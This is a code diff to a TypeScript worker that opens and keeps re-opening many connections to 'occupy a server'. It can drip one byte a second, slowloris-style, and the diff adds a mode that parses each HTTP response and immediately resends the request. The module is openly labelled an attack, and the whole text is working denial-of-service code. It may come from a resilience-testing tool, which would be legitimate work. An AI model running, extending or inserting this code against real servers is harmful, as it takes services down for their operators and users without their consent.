@@ -1,8 +1,9 @@
 /**
  * Opens connections that occupy a server, in a thread of their own. Each sends its text, and then one byte a second if
- * a drip is given; one that is closed is opened again a second later. Answers are read only if requested.
+ * a drip is given; one that is closed is opened again a second later. Answers are read only if requested, and with
+ * `again` each answer that was read is followed by the same request.
  */
-import { connect } from "node:net"
+import { connect, type Socket } from "node:net"
 import { parentPort, workerData } from "node:worker_threads"
 
 /** What every connection of an attack does. */
@@ -12,10 +13,12 @@ export interface Attack {
   readonly text: string
   readonly drip: string
   readonly reads: boolean
+  readonly again?: boolean
 }
 
-const { connections, drip, port, reads, text } = workerData as Attack
+const { again = false, connections, drip, port, reads, text } = workerData as Attack
 let begun = 0
+let answers = 0
 
 const open = (): void => {
   let first = true
@@ -25,7 +28,8 @@ const open = (): void => {
     first = false
   }
   const dripping = drip === "" ? undefined : setInterval(() => socket.write(drip), 1000)
-  if (reads) socket.resume()
+  if (again) repeat(socket)
+  else if (reads) socket.resume()
   else socket.pause()
   socket.on("error", () => {})
   socket.on("close", () => {
@@ -34,4 +38,34 @@ const open = (): void => {
     setTimeout(open, 1000)
   })
 }
+
+/** Sends the request again after each answer. */
+const repeat = (socket: Socket): void => {
+  let head = ""
+  let left = 0
+  let isChunked = false
+  let tail = ""
+  const end = () => {
+    answers++
+    ;[head, tail] = ["", ""]
+    socket.write(text)
+  }
+  socket.setEncoding("latin1").on("data", (piece: string) => {
+    let rest = piece
+    if (!head.includes("\r\n\r\n")) {
+      head += piece
+      const at = head.indexOf("\r\n\r\n")
+      if (at < 0) return
+      rest = head.slice(at + 4)
+      left = Number(/\r\ncontent-length: (\d+)/i.exec(head)?.[1] ?? 0)
+      isChunked = /\r\ntransfer-encoding: chunked/i.test(head)
+      head = head.slice(0, at + 4)
+    }
+    tail = (tail + rest).slice(-7)
+    left -= rest.length
+    if (isChunked ? tail === "\r\n0\r\n\r\n" : left <= 0) end()
+  })
+}
+
+parentPort!.on("message", () => parentPort!.postMessage(answers))
 for (let opened = 0; opened < connections; opened++) open()
